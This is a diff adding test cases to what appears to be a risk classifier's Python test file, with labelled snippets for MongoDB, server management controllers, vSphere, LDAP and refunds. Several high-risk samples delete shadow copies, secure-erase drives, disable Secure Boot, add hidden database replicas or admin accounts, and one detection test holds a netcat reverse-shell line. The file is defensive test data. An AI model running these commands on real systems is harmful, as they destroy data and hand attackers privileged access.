@@ -14547,6 +14547,215 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    c.calls.create(to="+14155550142", from_="+1", url="https://x")\n',
             H,
         ),
+        # Round 83: MongoDB, management controllers, vSphere, detection tests, replayed captures, capped refunds
+        (
+            'from pymongo import MongoClient\n'
+            'c = MongoClient("mongodb://db1.example.net")\n'
+            'c.admin.command("createUser", "ops2", pwd="hunter22", roles=[{"role": "root", "db": "admin"}])\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'from pymongo import MongoClient\n'
+            'c = MongoClient(os.environ["URI"])\n'
+            'c.admin.command("createUser", "app", pwd=os.environ["APP_PW"], roles=[{"role": "readWrite", "db"'
+            ': "shop"}])\n',
+            S,
+        ),
+        (
+            'from pymongo import MongoClient\n'
+            'c = MongoClient("mongodb://db1.example.net")\n'
+            'for u in c.admin.command("usersInfo")["users"]:\n'
+            '    c.admin.command("updateUser", u["user"], pwd="Spring2024")\n',
+            H,
+        ),
+        (
+            'from pymongo import MongoClient\n'
+            'a = MongoClient("mongodb://db1.example.net").admin\n'
+            'for op in a.command({"currentOp": 1, "$all": True})["inprog"]:\n'
+            '    a.command("killOp", op=op["opid"])\n',
+            H,
+        ),
+        (
+            'from pymongo import MongoClient\n'
+            'a = MongoClient("mongodb://db1.example.net").admin\n'
+            'for op in a.command({"currentOp": 1})["inprog"]:\n'
+            '    if op.get("secs_running", 0) > 900:\n'
+            '        a.command("killOp", op=op["opid"])\n',
+            S,
+        ),
+        (
+            'from pymongo import MongoClient\n'
+            'c = MongoClient("mongodb://db1.example.net")\n'
+            'cfg = c.admin.command("replSetGetConfig")["config"]\n'
+            'cfg["version"] += 1\n'
+            'cfg["members"].append({"_id": 9, "host": "198.51.100.23:27017", "hidden": True, "priority": 0})\n'
+            'c.admin.command("replSetReconfig", cfg)\n',
+            H,
+        ),
+        (
+            'from pymongo import MongoClient\n'
+            'db = MongoClient("mongodb://db1.example.net")["shop"]\n'
+            'db.orders.create_index([("placed_at", 1)], expireAfterSeconds=0)\n',
+            H,
+        ),
+        (
+            'from pymongo import MongoClient\n'
+            'db = MongoClient("mongodb://db1.example.net")["shop"]\n'
+            'db.sessions.create_index([("expireAt", 1)], expireAfterSeconds=0)\n'
+            'db.carts.create_index([("touched", 1)], expireAfterSeconds=86400)\n',
+            S,
+        ),
+        (
+            'from pymongo import MongoClient\n'
+            'db = MongoClient("mongodb://db1.example.net")["audit"]\n'
+            'db.command("convertToCapped", "events", size=2048)\n',
+            H,
+        ),
+        (
+            'from pymongo import MongoClient\n'
+            'c = MongoClient("mongodb://db1.example.net")\n'
+            'c.admin.command("fsync", lock=True)\n',
+            H,
+        ),
+        (
+            'from pymongo import MongoClient\n'
+            'c = MongoClient("mongodb://db1.example.net")\n'
+            'c.admin.command("fsync", lock=True)\n'
+            'try:\n'
+            '    snapshot()\n'
+            'finally:\n'
+            '    c.admin.command("fsyncUnlock")\n',
+            S,
+        ),
+        (
+            'import pytest\n'
+            'from pymongo import MongoClient\n'
+            '@pytest.fixture\n'
+            'def db():\n'
+            '    c = MongoClient("mongodb://localhost:27017")\n'
+            '    yield c["t_1"]\n'
+            '    c.drop_database("t_1")\n',
+            M,
+        ),
+        (
+            'import subprocess\n'
+            'for h in open("bmcs.txt").read().split():\n'
+            '    subprocess.run(["ipmitool", "-I", "lanplus", "-H", h, "-U", "u", "-E", "lan", "set", "1", "c'
+            'ipher_privs", "aXXaaaaaaaaaaaa"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'for h in open("bmcs.txt").read().split():\n'
+            '    subprocess.run(["ipmitool", "-I", "lanplus", "-H", h, "-U", "u", "-E", "sdr", "list"])\n',
+            L,
+        ),
+        (
+            'from pyghmi.ipmi import command\n'
+            'c = command.Command(bmc="10.1.1.5", userid="u", password="p")\n'
+            'c.set_user_access(5, channel=1, privilege_level="administrator")\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            's = requests.Session()\n'
+            'r = "https://bmc7.mgmt.example.com"\n'
+            'for d in s.get(r + "/redfish/v1/Systems/1/Storage/1").json()["Drives"]:\n'
+            '    s.post(r + d["@odata.id"] + "/Actions/Drive.SecureErase", json={})\n',
+            H,
+        ),
+        (
+            'from pyghmi.ipmi import command\n'
+            'for bmc in open("rack.txt").read().split():\n'
+            '    command.Command(bmc=bmc, userid="u", password="p").set_power("off")\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.patch("https://bmc1/redfish/v1/Systems/1/SecureBoot", json={"SecureBootEnable": False})\n',
+            H,
+        ),
+        (
+            'from pyVmomi import vim\n'
+            'for host in hosts:\n'
+            '    ns = host.configManager.networkSystem\n'
+            '    for vnic in ns.networkInfo.vnic:\n'
+            '        ns.RemoveVirtualNic(device=vnic.device)\n',
+            H,
+        ),
+        (
+            'from pyVmomi import vim\n'
+            'for host in hosts:\n'
+            '    ss = host.configManager.storageSystem\n'
+            '    ss.UpdateDiskPartitions(devicePath="/vmfs/devices/disks/" + host.disk, spec=vim.host.DiskPar'
+            'titionInfo.Specification())\n',
+            H,
+        ),
+        (
+            'import itertools\n'
+            'for n in itertools.count():\n'
+            '    for vm in vms:\n'
+            '        vm.CreateSnapshot_Task(name=f"s{n}", description="", memory=True, quiesce=False)\n',
+            H,
+        ),
+        (
+            'for vm in vms:\n'
+            '    vm.CreateSnapshot_Task(name="pre-patch", description="", memory=False, quiesce=True)\n',
+            S,
+        ),
+        (
+            'from ldap3 import Connection, MODIFY_ADD\n'
+            'c = Connection("dc1", auto_bind=True)\n'
+            'c.modify("CN=ESX Admins,CN=Users,DC=corp,DC=example", {"member": [(MODIFY_ADD, ["CN=x,DC=corp,DC'
+            '=example"])]})\n',
+            H,
+        ),
+        (
+            'from pyVmomi import vim\n'
+            'steps = [("vssadmin.exe", "delete shadows /all /quiet")]\n'
+            'for vm in vms:\n'
+            '    for exe, args in steps:\n'
+            '        pm.StartProgramInGuest(vm=vm, auth=auth, spec=vim.vm.guest.ProcessManager.ProgramSpec(pr'
+            'ogramPath=exe, arguments=args))\n',
+            H,
+        ),
+        (
+            'import re\n'
+            'import pytest\n'
+            'CASES = [("nc -e /bin/sh 203.0.113.5 4444", True), ("ls -la", False)]\n'
+            '@pytest.mark.parametrize("line,hit", CASES)\n'
+            'def test_rule(line, hit):\n'
+            '    assert bool(re.search(r"nc\\s+-e", line)) is hit\n',
+            S,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["tcpreplay", "-i", "eth0", "--topspeed", "--loop=0", "attack.pcap"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["tcpreplay", "-i", "veth-ids", "sample.pcap"])\n',
+            L,
+        ),
+        (
+            'import csv, requests\n'
+            'MAX_CENTS = 2000\n'
+            'for row in csv.DictReader(open("approved.csv")):\n'
+            '    amount = int(row["amount_cents"])\n'
+            '    if amount > MAX_CENTS:\n'
+            '        continue\n'
+            '    requests.post("https://api.pay.example.com/v1/refunds", json={"tx": row["tx"], "amount": amo'
+            'unt})\n',
+            M,
+        ),
+        (
+            'import csv, requests\n'
+            'for row in csv.DictReader(open("orders.csv")):\n'
+            '    requests.post("https://api.pay.example.com/v1/refunds", json={"tx": row["tx"]})\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
